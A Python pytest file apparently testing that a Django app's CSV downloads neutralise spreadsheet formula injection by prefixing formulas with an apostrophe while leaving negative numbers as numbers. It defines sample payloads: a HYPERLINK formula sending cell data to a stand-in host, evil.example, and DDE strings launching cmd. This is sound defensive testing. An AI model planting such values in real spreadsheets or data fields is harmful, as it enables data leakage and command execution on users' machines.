"""Every CSV download is inert in a spreadsheet: a name or comment typed as a formula
comes out as text (leading apostrophe), while numbers, negative ones too, stay numbers."""

import csv
import io

import polars as pl
import pytest
from django.urls import reverse

from miara.catalogue.models import Indicator
from miara.collection.services import OPERATOR, values_save
from miara.testing.cycles import cycle_2024
from miara.units.models import Unit

pytestmark = pytest.mark.django_db

EVIL_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_OTHER = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_INDICATOR = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_names(alice):
    Unit.objects.filter(code="A1").update(name=EVIL_UNIT)
    Unit.objects.filter(code="B2").update(name=EVIL_OTHER)
    indicator = Indicator.objects.get(code="RECYCLING_RATE")
    indicator.name = {"en": EVIL_INDICATOR, "pl": EVIL_INDICATOR, "cs": EVIL_INDICATOR}
    indicator.save()
    return alice


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    return [cell for row in rows for cell in row]


def _assert_inert(cells: list[str], *expected: str) -> None:
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert live == [], f"cells a spreadsheet would run as formulas: {live}"
    for text in expected:
        assert "'" + text in cells, f"{text!r} is missing (as inert text) from the CSV"


def _urls():
    return {
        "compare": reverse("analytics:compare_csv")
        + "?units=A1,B2&indicators=RECYCLING_RATE,WASTE_PC",
        "similar": reverse("analytics:similar_csv", args=["A1"]) + "?variables=POPULATION&k=3",
        "indicator": reverse("analytics:indicator_csv", args=["RECYCLING_RATE"]),
        "benchmark": reverse("analytics:benchmark_csv", args=["A1"]),
    }


EXPECTED = {
    "compare": [EVIL_UNIT, EVIL_OTHER],
    "similar": [EVIL_UNIT, EVIL_OTHER],
    "indicator": [EVIL_UNIT, EVIL_OTHER],
    "benchmark": [EVIL_INDICATOR],
}


@pytest.mark.parametrize("name", list(EXPECTED))
def test_a_csv_download_writes_formulas_as_text(client, hostile_names, name):
    client.force_login(hostile_names)
    _assert_inert(_cells(client.get(_urls()[name])), *EXPECTED[name])


def test_the_quality_csv_writes_formulas_as_text(client, hostile_names):
    cycle = cycle_2024(hostile_names, ["WASTE_T", "RECYCLED_T"], required_codes=["WASTE_T"])
    # A missing required value: a finding whose row carries A1's name.
    frame = pl.DataFrame(
        {
            "unit": ["A1"],
            "variable": ["WASTE_T"],
            "period": ["2024"],
            "value": [None],
            "comment": [None],
            "__line": [1],
        },
        schema_overrides={"value": pl.String, "comment": pl.String},
    )
    values_save(acting_user=OPERATOR, rows=frame, channel="form", source="test")
    client.force_login(hostile_names)
    response = client.get(reverse("collection:coord_quality_csv", args=[cycle.pk]))
    _assert_inert(_cells(response), EVIL_UNIT)


def test_negative_numbers_stay_numbers(client, hostile_names):
    """The benchmark's gaps to the median are negative for some indicators: no apostrophe."""
    client.force_login(hostile_names)
    cells = _cells(client.get(_urls()["benchmark"]))
    negatives = [c for c in cells if c.startswith("-") and _is_number(c)]
    assert negatives, "the fixture should produce at least one negative figure"
    assert not any(c.startswith("'-") and _is_number(c[1:]) for c in cells)
